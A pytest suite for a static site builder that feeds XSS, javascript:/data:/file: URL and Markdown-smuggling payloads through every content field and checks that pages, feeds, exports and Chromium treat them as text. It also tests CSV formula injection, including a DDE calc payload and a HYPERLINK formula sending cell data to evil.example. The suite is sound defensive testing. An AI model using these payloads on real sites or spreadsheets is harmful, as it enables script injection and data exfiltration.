"""Injection: a poisoned content folder through `digest build`, checked in the output and in real Chromium.

The folder is the fixture content (tests/support/fixture_site.py) with script, event-handler, `javascript:` and
`data:` payloads written into every field a reader sees: titles, summaries, metric labels, units and quotes,
practices, keywords, localities, region names (a functional zone in places.yaml), bylines and source files
(a `source.href`, which the schema does not know, is refused as an unknown key), theme and level labels and
descriptions, and bodies (headings, captions, raw HTML, Markdown links, images,
autolinks and reference links in a dozen spellings). It must validate and build, and then:

* no page, feed, sitemap or export holds any payload as markup: every element and attribute is one that
  the templates (as in the clean fixture site) or the Markdown renderer make, no inline script or handler,
  no link, image, form or frame with a scheme other than http(s) or mailto; feed.xml and sitemap.xml are well-formed XML with only Atom/sitemap
  elements; digest.json, digest.csv and the search index hold the payloads as plain data, unchanged;
* (slow) Chromium loads every page, with the CSP switched off (escaping alone must stop every payload) and
  on: no dialog opens, no payload flag is set, no payload request reaches the server, no inline script or
  handler is in the DOM, every link the browser resolves has a safe scheme, the CSP meta tag is on every
  page and no page raises a CSP violation, and the site's own search still works under that CSP.
"""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import functools
import http.server
import io
import json
import re
import threading
import time
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, unquote, urlsplit

import pytest
import yaml

from builder.commands.build import run_build
from builder.commands.check import run_check
from builder.content.loader import Vocabulary
from builder.content.settings import SiteSettings
from builder.model import Initiative, Metric, Region, Source
from builder.render import feeds
from builder.render.indexes import build_index
from builder.render.markdown import render_body
from tests.support.browser import page_urls as every_page
from tests.support.editing import GOOD, make_content, replace
from tests.support.fixture_site import INITIATIVES, LEVELS_YAML, THEMES, write_content

# ----------------------------------------------------------------------------------------------- payloads

FLAG = "PWNED"  # every script payload sets window.PWNED and opens a dialog
JS = f"window.{FLAG}=1;alert(1)"
PAYLOADS: tuple[str, ...] = (
    f"<script>{JS}</script>",
    f"<img src=x onerror={JS}>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    f'"><svg onload="{JS}">',
    "'><iframe src=javascript:alert(1)></iframe>",
    f"</title><script>{JS}</script>",
    f'<a href="javascript:{JS}">链接</a>',
    '<img src="/pwned-img">',
    '<meta http-equiv="refresh" content="0;url=/pwned-refresh">',
    '<base href="/pwned-base/">',
    '<link rel="stylesheet" href="/pwned-css">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f"<!--<script>{JS}</script>-->]]>",
    "&lt;script&gt;{{ 7*7 }}&amp;",
    f"<details open ontoggle={JS}>",
)
# What the body renderer may add to the templates' own markup.
MARKDOWN_MARKUP: dict[str, tuple[str, ...]] = {
    **{tag: () for tag in ("p", "h2", "h3", "h4", "h5", "h6", "em", "strong", "pre", "blockquote")},
    **{tag: () for tag in ("ul", "li", "hr", "br", "figcaption")},
    "ol": ("start",),
    "code": ("class",),
    "a": ("href", "title"),
    "figure": ("class",),
}


def poison(text: str, index: int, limit: int = 200) -> str:
    """`text` and then payloads, starting at one chosen by `index`, as many as fit in `limit` characters."""
    out = text
    for k in range(len(PAYLOADS)):
        payload = PAYLOADS[(index * 3 + k) % len(PAYLOADS)]
        if len(out) + len(payload) + 1 <= limit:
            out = f"{out} {payload}"
    return out


# Markdown that tries every way of getting a link, an image or markup out of the body renderer.
HOSTILE_BODY = f"""
## <script>{JS}</script>小标题 <img src=x onerror={JS}>

### [标题链接](javascript:alert(1))

[点我](javascript:alert(1)) [大写](JAVASCRIPT:alert(1)) [实体](&#106;avascript:alert(1))
[十六进制](&#x6A;avascript:alert(1)) [制表](java&#9;script:alert(1)) [换行符](java&#10;script:alert(1))
[尖括号](<javascript:alert(1)>) [空格](<  javascript:alert(1)>) [百分号](%6Aavascript:alert(1))
[数据](data:text/html,<script>alert(1)</script>) [数据64](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[svg](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E) [png](data:image/png;base64,iVBORw0KGgo=)
[vb](vbscript:msgbox(1)) [文件](file:///etc/passwd) [msdt](ms-msdt:/id%20PCWDiagnostic) [intent](intent://x#Intent;end)
[标题属性](https://example.org/ok "x\\" onmouseover=\\"{JS}") [正常链接](https://example.org/ok) [邮件](mailto:a@example.org)

<javascript:alert(1)> <data:text/html,x> <vbscript:msgbox(1)> <https://example.org/auto>

[引用链接][r1] [引用数据][r2]

[r1]: javascript:alert(1)
[r2]: data:text/html,<script>alert(1)</script>

![图](javascript:alert(1)) ![图2](data:text/html,<script>alert(1)</script>) ![x" onerror="{JS}](https://example.org/y.png)
![<img src=x onerror={JS}>](/pwned-md-img)

<script>{JS}</script>
<img src=x onerror="{JS}">
<a href="javascript:alert(1)">html link</a>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>

<div onmouseover="{JS}">块</div>

`<script>{JS}</script>` 与 **<b onclick="{JS}">粗体</b>** 和 *<i>斜体</i>*

    <script>{JS}</script>

```html
<script>{JS}</script>
```

> <script>{JS}</script>引用

- 列表 <img src=x onerror={JS}>
- [列表链接](javascript:alert(1))

图：<script>{JS}</script><img src=x onerror={JS}> [图注链接](javascript:alert(1)) ![图注图](data:text/html,x)
"""

HOSTILE_ZONE = "<script>alert(1)</script>新区"
SAFE_SCHEMES = ("http", "https", "mailto")


def _metrics(item: Initiative, index: int) -> list[Metric]:
    found = []
    for k, metric in enumerate(item.metrics):
        found.append(
            dataclasses.replace(
                metric,
                label=poison(metric.label, index + k, 120),  # keeps the label's words: still an indicator
                unit=f"{metric.unit}<b>",
                quote=poison(metric.quote, index + k + 3, 1000),
            )
        )
    return found


def poisoned_initiatives() -> list[Initiative]:
    items = []
    for i, item in enumerate(INITIATIVES):
        region = item.region
        if item.slug == "tianfu-new-area-micro-grids":  # a functional zone named by places.yaml
            region = Region("四川省", "成都市", HOSTILE_ZONE, "510100")
        byline = item.source.byline or "通讯员"
        items.append(
            dataclasses.replace(
                item,
                title=poison(item.title, i),
                source=Source(poison(item.source.file, i + 1), item.source.part, poison(byline, i + 2)),
                region=region,
                locality=poison(item.locality or "", i + 3).strip() or None,
                practices=[
                    *item.practices,
                    *(poison("做法", i + k) for k in range(3)),
                    "javascript:alert(1)",
                ],
                metrics=_metrics(item, i),
                summary=poison(item.summary or "", i + 4, 2000),
                keywords=[*item.keywords, *(poison("关键词", i + k) for k in range(3)), PAYLOADS[i % 4]],
                body=item.body + HOSTILE_BODY,
            )
        )
    return items


def write_poisoned(folder: Path) -> Path:
    """The poisoned content folder: initiatives, theme and level vocabularies, places.yaml."""
    content = write_content(folder, poisoned_initiatives())
    themes = [
        {"slug": s, "zh": poison(zh, i, 80), "en": poison(en, i + 1, 160)}
        | ({"description": poison("说明", i + 2, 400)} if i % 3 == 0 else {})
        for i, (s, zh, en) in enumerate(THEMES)
    ]
    (content / "_data" / "themes.yaml").write_text(
        yaml.safe_dump({"themes": themes}, allow_unicode=True, sort_keys=False), encoding="utf-8"
    )
    levels = yaml.safe_load(LEVELS_YAML)
    for i, level in enumerate(levels["levels"]):
        level["zh"] = poison(level["zh"], i + 5, 80)
        level["description"] = poison(level["description"], i + 6, 300)
    (content / "_data" / "levels.yaml").write_text(
        yaml.safe_dump(levels, allow_unicode=True, sort_keys=False), encoding="utf-8"
    )
    zones = {
        "zones": [
            {"name": "天府新区", "province": "四川省", "city": "成都市", "level": "county"},
            {"name": HOSTILE_ZONE, "province": "四川省", "city": "成都市", "level": "county"},
        ]
    }
    (content / "_data" / "places.yaml").write_text(
        yaml.safe_dump(zones, allow_unicode=True, sort_keys=False), encoding="utf-8"
    )
    return content


# -------------------------------------------------------------------------------------------- the sites


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """(clean fixture site, poisoned site), both built by `digest build` with real cross-links."""
    root = tmp_path_factory.mktemp("hostile-build")
    clean = write_content(root / "clean")
    assert run_build(clean, root / "clean-site", base_url="/sub/", quiet=True) == 0
    poisoned = write_poisoned(root / "content")
    assert run_check(poisoned, out=io.StringIO()) == 0
    assert run_build(poisoned, root / "www" / "sub", base_url="/sub/", quiet=True) == 0
    return root / "clean-site", root / "www" / "sub"


class Markup(HTMLParser):
    """Every element with its attributes, every comment, and the text, of one HTML page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []
        self.text: list[str] = []
        self.raw_text: list[tuple[str, str]] = []  # (element, text) inside script / style
        self._open: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._open = tag

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._open in ("script", "style") and data.strip():
            self.raw_text.append((self._open, data))


def parse(path: Path) -> Markup:
    page = Markup()
    page.feed(path.read_text(encoding="utf-8"))
    page.close()
    return page


def scheme(url: str) -> str | None:
    """The scheme a browser would see (leading controls and spaces dropped, tabs and newlines removed)."""
    cleaned = re.sub(r"[\t\n\r]", "", url.lstrip("".join(map(chr, range(33)))))
    match = re.match(r"([A-Za-z][A-Za-z0-9+.\-]*):", cleaned)
    return match.group(1).lower() if match else None


def safe_url(url: str) -> bool:
    """Relative or http(s) / mailto, also once percent-decoded (for consumers that decode first)."""
    return all(scheme(form) in (None, *SAFE_SCHEMES) for form in (url, unquote(url)))


URL_ATTRS = ("href", "src", "action", "formaction", "srcset", "data", "poster", "xlink:href", "background")


def vocabulary(site: Path) -> tuple[set[str], set[tuple[str, str]]]:
    tags: set[str] = set()
    pairs: set[tuple[str, str]] = set()
    for path in site.rglob("*.html"):
        for tag, attrs in parse(path).tags:
            tags.add(tag)
            pairs.update((tag, name) for name in attrs)
    return tags, pairs


# ----------------------------------------------------------------------------------------- static checks


def test_a_payload_under_a_key_the_schema_does_not_know_is_refused(tmp_path: Path) -> None:
    content = write_poisoned(tmp_path / "content")
    first = content / f"{INITIATIVES[0].slug}.md"
    text = first.read_text(encoding="utf-8")
    first.write_text(
        text.replace("\nsource:\n", "\nsource:\n  href: javascript:alert(1)\n", 1), encoding="utf-8"
    )
    out = io.StringIO()
    assert run_check(content, out=out) == 1
    assert "error: unknown key 'source.href' (rename it to one of: source.file" in out.getvalue()
    assert run_build(content, tmp_path / "site", quiet=True) == 1
    assert not (tmp_path / "site").exists()


def test_the_poisoned_folder_is_valid_content_with_every_payload(tmp_path: Path) -> None:
    content = write_poisoned(tmp_path / "content")
    out = io.StringIO()
    assert run_check(content, out=out) == 0, out.getvalue()
    items = poisoned_initiatives()
    fields = [
        [i.title, i.summary, i.locality, i.source.file, i.source.byline, *i.practices, *i.keywords]
        + [f"{m.label}{m.quote}" for m in i.metrics]
        for i in items
    ]
    for payload in PAYLOADS:  # each payload in titles, summaries, practices, keywords, metrics … somewhere
        assert any(payload in (i.title or "") for i in items), payload
        assert any(payload in (i.summary or "") for i in items), payload
        assert any(payload in " ".join(i.practices) for i in items), payload
        assert any(payload in " ".join(i.keywords) for i in items), payload
        assert any(payload in " ".join(m.label + m.quote for m in i.metrics) for i in items), payload
        assert any(payload in (i.source.byline or "") for i in items), payload
        assert sum(payload in " ".join(str(v) for v in f) for f in fields) >= 3, payload


def test_no_page_holds_a_payload_as_markup(sites: tuple[Path, Path]) -> None:
    clean, site = sites
    allowed_tags, allowed_pairs = vocabulary(clean)
    allowed_tags |= set(MARKDOWN_MARKUP)
    allowed_pairs |= {(tag, attr) for tag, attrs in MARKDOWN_MARKUP.items() for attr in attrs}
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 60
    problems: list[str] = []
    for path in pages:
        rel = path.relative_to(site).as_posix()
        page = parse(path)
        for tag, attrs in page.tags:
            if tag not in allowed_tags:
                problems.append(f"{rel}: element <{tag}> that neither the templates nor Markdown make")
            for name, value in attrs.items():
                if (tag, name) not in allowed_pairs:
                    problems.append(f"{rel}: attribute {name} on <{tag}>")
                if name.startswith("on"):
                    problems.append(f"{rel}: event handler {name} on <{tag}>")
                if name in URL_ATTRS and value is not None and not safe_url(value):
                    problems.append(f"{rel}: <{tag} {name}={value!r}>")
            if tag == "script" and attrs != {"src": "../static/search.js", "defer": None}:
                problems.append(f"{rel}: script {attrs}")
            if tag == "meta" and (attrs.get("http-equiv") or "").lower() == "refresh":
                problems.append(f"{rel}: meta refresh")
        if page.raw_text:
            problems.append(f"{rel}: script or style text {page.raw_text}")
        problems += [
            f"{rel}: comment {c!r}" for c in page.comments if c not in ("index", "/index", "body", "/body")
        ]
    assert not problems, "\n".join(problems[:60])


def test_the_payloads_are_shown_as_text(sites: tuple[Path, Path]) -> None:
    """Not dropped, not half-parsed: a reader sees each payload as the characters that were written."""
    _clean, site = sites
    slug = INITIATIVES[0].slug
    page = parse(site / "initiatives" / slug / "index.html")
    text = "".join(page.text)
    item = poisoned_initiatives()[0]
    for value in (item.title, item.summary, item.source.byline, *item.practices, *item.keywords):
        assert value and value in text, value
    for metric in item.metrics:
        assert metric.label in text and metric.quote in text
    assert f"<script>{JS}</script>小标题" in text  # a heading
    assert f"图：<script>{JS}</script><img src=x onerror={JS}>" in text  # a caption
    assert "[点我](javascript:alert(1))" in text  # a refused link stays as its text
    zone = "".join(parse(site / "regions" / "510100-script-alert-1-script-xin-qu" / "index.html").text)
    assert HOSTILE_ZONE in zone


def test_links_in_bodies_keep_only_safe_schemes() -> None:
    html = render_body(HOSTILE_BODY).html
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert hrefs == [
        "https://example.org/ok",
        "https://example.org/ok",
        "mailto:a@example.org",
        "https://example.org/auto",
    ]
    assert "<img" not in html and "<script" not in html and "<iframe" not in html and "<div" not in html
    assert 'title="x&quot; onmouseover=&quot;' in html  # a link title stays inside its attribute


@pytest.mark.parametrize(
    ("markdown", "href"),
    [
        ("[a](https://example.org/x)", "https://example.org/x"),
        ("[a](http://example.org/x)", "http://example.org/x"),
        ("[a](mailto:x@example.org)", "mailto:x@example.org"),
        ("[a](../other/)", "../other/"),
        ("[a](#part)", "#part"),
        ("[a](//example.org/x)", "//example.org/x"),
        ("[a](javascript:alert(1))", None),
        ("[a](JavaScript:alert(1))", None),
        ("[a](&#106;avascript:alert(1))", None),
        ("[a](vbscript:msgbox(1))", None),
        ("[a](file:///etc/passwd)", None),
        ("[a](data:text/html,x)", None),
        ("[a](data:image/png;base64,iVBORw0KGgo=)", None),
        ("[a](data:image/svg+xml,x)", None),
        ("[a](ms-msdt:/id)", None),
        ("[a](intent://x#Intent;end)", None),
        ("<javascript:alert(1)>", None),
        ("<data:image/png;base64,x>", None),
        ("[a][r]\n\n[r]: data:image/gif;base64,R0lGOD", None),
    ],
)
def test_body_link_schemes(markdown: str, href: str | None) -> None:
    html = render_body(markdown).html
    found = re.findall(r'href="([^"]*)"', html)
    assert found == ([href] if href else []), html


def test_feed_and_sitemap_are_well_formed_with_payloads_as_text(sites: tuple[Path, Path]) -> None:
    _clean, site = sites
    atom = "{http://www.w3.org/2005/Atom}"
    feed = ET.parse(site / "feed.xml").getroot()
    allowed = {"feed", "title", "subtitle", "id", "updated", "link", "author", "name", "entry"}
    allowed |= {"category", "summary"}
    titles = []
    for element in feed.iter():
        assert element.tag.startswith(atom) and element.tag[len(atom) :] in allowed, element.tag
        assert "type" not in element.attrib or element.tag == f"{atom}link", element.attrib
        if element.tag == f"{atom}link":
            assert element.attrib["href"].startswith("/sub/"), element.attrib
        if element.tag == f"{atom}title":
            titles.append(element.text)
    assert poisoned_initiatives()[0].title in titles  # the payload is the entry's text, escaped
    sitemap = ET.parse(site / "sitemap.xml").getroot()
    for loc in sitemap.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc"):
        assert loc.text and re.fullmatch(r"/sub/[a-z0-9/.\-]*", loc.text), loc.text
    assert len(list(sitemap)) > 60


def test_exports_and_search_index_keep_payloads_as_data(sites: tuple[Path, Path]) -> None:
    _clean, site = sites
    items = {item.slug: item for item in poisoned_initiatives()}
    records = json.loads((site / "digest.json").read_text(encoding="utf-8"))["initiatives"]
    assert {r["slug"] for r in records} == set(items)
    for record in records:
        item = items[record["slug"]]
        assert record["title"] == item.title and record["summary"] == item.summary
        assert record["practices"] == item.practices and record["keywords"] == item.keywords
        assert record["url"] == f"/sub/initiatives/{item.slug}/"
    rows = list(csv.DictReader(io.StringIO((site / "digest.csv").read_text(encoding="utf-8"))))
    assert {row["slug"]: row["title"] for row in rows} == {s: i.title for s, i in items.items()}
    docs = [
        json.loads(path.read_text(encoding="utf-8"))
        for path in sorted((site / "search" / "r").glob("*.json"))
    ]
    assert {d[0] for d in docs} == {f"initiatives/{s}/" for s in items}
    assert {d[1] for d in docs} == {i.title for i in items.values()}


def test_csp_meta_tag_is_on_every_page(sites: tuple[Path, Path]) -> None:
    _clean, site = sites
    policy = (
        "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; "
        "connect-src 'self'; object-src 'none'; base-uri 'none'; form-action 'self'"
    )
    for path in sorted(site.rglob("*.html")):
        page = parse(path)
        metas = [a for t, a in page.tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy"]
        assert [m.get("content") for m in metas] == [policy], path
        head = [t for t, _ in page.tags[: page.tags.index(("meta", metas[0]))]]
        assert "script" not in head and "link" not in head and "style" not in head, path


# ----------------------------------------------------------------------------------- in real Chromium

WATCH = """
window.__csp = [];
document.addEventListener('securitypolicyviolation', e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
"""

INSPECT = """() => {
  const bad = [];
  const safe = new Set(['http:', 'https:', 'mailto:']);
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      if (attr.name.startsWith('on')) bad.push('handler ' + el.tagName + ' ' + attr.name);
    }
  }
  for (const el of document.querySelectorAll('script:not([src])')) bad.push('inline script');
  for (const el of document.querySelectorAll('iframe, object, embed, base, frame')) bad.push(el.tagName);
  for (const el of document.querySelectorAll('a[href], area[href]')) {
    if (!safe.has(new URL(el.href, location.href).protocol)) bad.push('link ' + el.getAttribute('href'));
  }
  for (const el of document.querySelectorAll('[src], form[action], [formaction]')) {
    const url = el.src || el.action || el.getAttribute('formaction');
    if (url && !safe.has(new URL(url, location.href).protocol)) bad.push(el.tagName + ' ' + url);
  }
  return {bad, flag: window.PWNED === undefined ? null : String(window.PWNED), csp: window.__csp,
          title: document.title, h1: (document.querySelector('h1') || {}).textContent || ''};
}"""


class _Logged(http.server.SimpleHTTPRequestHandler):
    requests: list[str]

    def log_message(self, format: str, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        self.requests.append(self.path)
        super().do_GET()


@pytest.fixture(scope="module")
def served(sites: tuple[Path, Path]) -> Iterator[tuple[str, Path, list[str]]]:
    _clean, site = sites
    requests: list[str] = []
    handler = type("Handler", (_Logged,), {"requests": requests})
    server = http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0), functools.partial(handler, directory=str(site.parent))
    )
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/sub/", site, requests
    server.shutdown()
    server.server_close()


def page_urls(site: Path) -> list[str]:
    """Every page of the site (the one browser is tests/conftest.py's `chromium`), and searches for the payloads."""
    urls = every_page(site)
    searches = ["alert", "script", "javascript", "onerror", "<img", "网格"]
    return urls + ["search/?q=" + quote(term) for term in searches]


@pytest.mark.slow
@pytest.mark.parametrize("csp", ["csp-off", "csp-on"])
def test_no_script_from_the_content_runs_in_chromium(
    served: tuple[str, Path, list[str]], chromium, csp: str
) -> None:
    """Every page of the poisoned site, with the CSP bypassed (escaping alone must hold) and enforced."""
    base, site, requests = served
    context = chromium.new_context(bypass_csp=csp == "csp-off")
    context.add_init_script(WATCH)
    page = context.new_page()
    dialogs: list[str] = []
    errors: list[str] = []
    current = {"url": ""}

    def on_dialog(dialog) -> None:  # type: ignore[no-untyped-def]
        dialogs.append(f"{current['url']}: {dialog.type} {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("pageerror", lambda exc: errors.append(f"{current['url']}: {exc}"))
    problems: list[str] = []
    urls = page_urls(site)
    for url in urls:
        current["url"] = url
        try:
            page.goto(base + url, wait_until="load")
            if url.startswith("search/"):
                page.wait_for_selector("#search-results[data-count]", state="attached")
            page.wait_for_timeout(20)
            seen = page.evaluate(INSPECT)
        except Exception as exc:  # a refresh or a script navigated away from the page
            problems.append(f"{url}: {str(exc).splitlines()[0]}")
            continue
        problems += [f"{url}: {b}" for b in seen["bad"]]
        if seen["flag"] is not None:
            problems.append(f"{url}: window.{FLAG} = {seen['flag']}")
        if seen["csp"]:
            problems.append(f"{url}: CSP violations {seen['csp']}")
        if url.startswith("initiatives/") and url.count("/") == 2 and "<" not in seen["h1"]:
            problems.append(f"{url}: the title's payload is not text in <h1>: {seen['h1']!r}")
    context.close()
    assert not dialogs, dialogs[:20]
    assert not errors, errors[:20]
    assert not problems, "\n".join(problems[:60])
    # Nothing but the site's own files was requested: no /pwned-… image, stylesheet, refresh or base.
    missing = []
    for request in dict.fromkeys(requests):
        path = unquote(urlsplit(request).path)
        file = site.parent / path.lstrip("/")
        if not path.startswith("/sub/") or not (file.is_file() or (file / "index.html").is_file()):
            missing.append(request)
    assert not missing, missing
    assert len(urls) > 60


# The results list shows the query's term: its count is set and a result's marked text holds the term.
_FOUND = """term => {
  const list = document.querySelector('#search-results');
  const marks = [...list.querySelectorAll('mark')].map(m => m.textContent);
  return Number(list.dataset.count) > 0 && marks.some(m => term.includes(m) || m.includes(term));
}"""


@pytest.mark.slow
def test_search_works_under_the_csp_and_shows_payloads_as_text(
    served: tuple[str, Path, list[str]], chromium
) -> None:
    base, _site, _requests = served
    context = chromium.new_context()
    context.add_init_script(WATCH)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(base + "search/?q=" + quote("<script>"))
    page.wait_for_selector("#search-results[data-count]", state="attached")
    count = int(page.get_attribute("#search-results", "data-count") or "0")
    assert count >= len(INITIATIVES) - 1
    titles = page.eval_on_selector_all("#search-results li a", "links => links.map(a => a.textContent)")
    assert any("<script>" in t for t in titles)
    marks = page.eval_on_selector_all("#search-results mark", "ms => ms.map(m => m.textContent)")
    assert marks and all(m.lower() == "<script>" for m in marks)
    page.fill("#search-q", "红蜂驿站")
    page.click("#search-form button")
    # Polled from here with page.evaluate (run by the browser's debugger, outside the page's CSP), not with
    # wait_for_function: that polls by evaluating a string in the page, which script-src 'self' rightly forbids
    # (it failed whenever the results were not there at the first try, i.e. on a loaded machine).
    deadline = time.monotonic() + 30
    while not page.evaluate(_FOUND, "红蜂驿站") and time.monotonic() < deadline:
        page.wait_for_timeout(100)
    assert page.evaluate(_FOUND, "红蜂驿站"), page.inner_text("#search-results")
    assert page.evaluate("window.__csp") == []
    assert page.evaluate(f"window.{FLAG}") is None
    assert not dialogs
    context.close()


# ------------------------------------------------------------- control characters, spreadsheet formulas

CONTROL = "\x01\x08\x0b\x0c\x1b\x7f\x85\ufffe\uffff"


def _build_one(root: Path, **replacements: str) -> tuple[int, str, Path]:
    """Build a content folder of one GOOD file with `old=new` replacements: (exit code, stderr, site)."""
    text = GOOD
    for old, new in replacements.items():
        text = replace(text, old, new)
    content = make_content(root, {"huimin-district.md": text})
    err = io.StringIO()
    with contextlib.redirect_stderr(err):
        code = run_build(content, root / "site", quiet=True)
    return code, err.getvalue(), root / "site"


def test_the_feed_stays_well_formed_whatever_the_text_holds() -> None:
    """Validation refuses control characters (test below), and the feed drops what XML 1.0 forbids anyway:
    one bad title must not make the whole feed unreadable to every reader."""
    item = dataclasses.replace(
        INITIATIVES[0],
        title=f"回民区{CONTROL}标题",
        summary=f"摘要{CONTROL}",
        source=Source("a.txt", 1, f"记者{CONTROL}"),
    )
    index = build_index([item], Vocabulary({}, {}), {})
    feed = ET.fromstring(feeds.atom_feed(index, "/", SiteSettings(title=f"站点{CONTROL}")))
    atom = "{http://www.w3.org/2005/Atom}"
    entry = feed.find(f"{atom}entry")
    assert entry is not None
    kept = "\x7f\x85"  # allowed in XML 1.0 (only discouraged)
    assert feed.findtext(f"{atom}title") == f"站点{kept}"
    assert entry.findtext(f"{atom}title") == f"回民区{kept}标题"
    assert entry.findtext(f"{atom}author/{atom}name") == f"记者{kept}"
    assert (entry.findtext(f"{atom}summary") or "").endswith(f"摘要{kept}")


@pytest.mark.parametrize("where", ["title", "body"])
def test_control_characters_are_refused_or_kept_out_of_the_pages(tmp_path: Path, where: str) -> None:
    """Written as YAML escapes in a title ("\\x01", "\\e", "\\uFFFE") or raw in a body, they are invisible to
    the editor and forbidden in HTML: `digest build` refuses them with the file and line, or keeps them out."""
    escaped = "".join(f"\\u{ord(c):04X}" for c in CONTROL)
    if where == "title":
        change = {"title: 回民区：以组织力引领城市基层治理现代化": f'title: "回民区{escaped}标题"'}
    else:
        change = {"回民区在推行网格化管理的过程中……": f"回民区{CONTROL}在推行网格化管理的过程中……"}
    code, err, site = _build_one(tmp_path, **change)
    if code == 1:
        assert re.search(r"huimin-district\.md:\d+: error: .*U\+0001", err), err
        return
    bad = re.compile("[\x00-\x08\x0b\x0e-\x1f\x7f-\x9f\ufdd0-\ufdef\ufffe\uffff]")
    for path in sorted(site.rglob("*.html")):
        assert not bad.search(path.read_text(encoding="utf-8")), path


FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"点此查看")',
    "summary": "+cmd|' /C calc'!A0",
    "locality": "@SUM(1+1)*cmd|' /C calc'!A0",
    "byline": "-2+3+cmd|' /C calc'!A0",
    "label": "\t=1+1",
    "quote": "=1+1 网格党支部",
}


def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
    code, err, site = _build_one(
        tmp_path,
        **{
            "title: 回民区：以组织力引领城市基层治理现代化": f"title: '{FORMULAS['title']}'",
            "summary: 回民区将党组织建在网格上。": f'summary: "{FORMULAS["summary"]}"',
            "locality: 海西路街道赛马场北路社区": f'locality: "{FORMULAS["locality"]}"',
            "byline: 本报讯（记者 祁晓燕 通讯员 云静波）": f'byline: "{FORMULAS["byline"]}"',
            "label: 网格党支部": 'label: "\\t=1+1"',
            'quote: "网格党支部 226个"': f'quote: "{FORMULAS["quote"]}"',
            "keywords: [网格, 党建联建]": 'keywords: ["=1+1", 网格]',
        },
    )
    assert code == 0, err
    for name in ("digest.csv", "digest-metrics.csv"):
        rows = list(csv.reader(io.StringIO((site / name).read_text(encoding="utf-8"))))
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    row = next(csv.DictReader(io.StringIO((site / "digest.csv").read_text(encoding="utf-8"))))
    assert row["title"] == "'" + FORMULAS["title"]
    assert row["summary"] == "'" + FORMULAS["summary"] and row["byline"] == "'" + FORMULAS["byline"]
    assert row["keywords"] == "'=1+1;网格"
    metric = next(csv.DictReader(io.StringIO((site / "digest-metrics.csv").read_text(encoding="utf-8"))))
    assert metric["label"] == "'\t=1+1" and metric["quote"] == "'" + FORMULAS["quote"]
    assert metric["value"] == "226"
    record = json.loads((site / "digest.json").read_text(encoding="utf-8"))["initiatives"][0]
    assert record["title"] == FORMULAS["title"] and record["locality"] == FORMULAS["locality"]
    assert record["metrics"][0]["label"] == "\t=1+1"
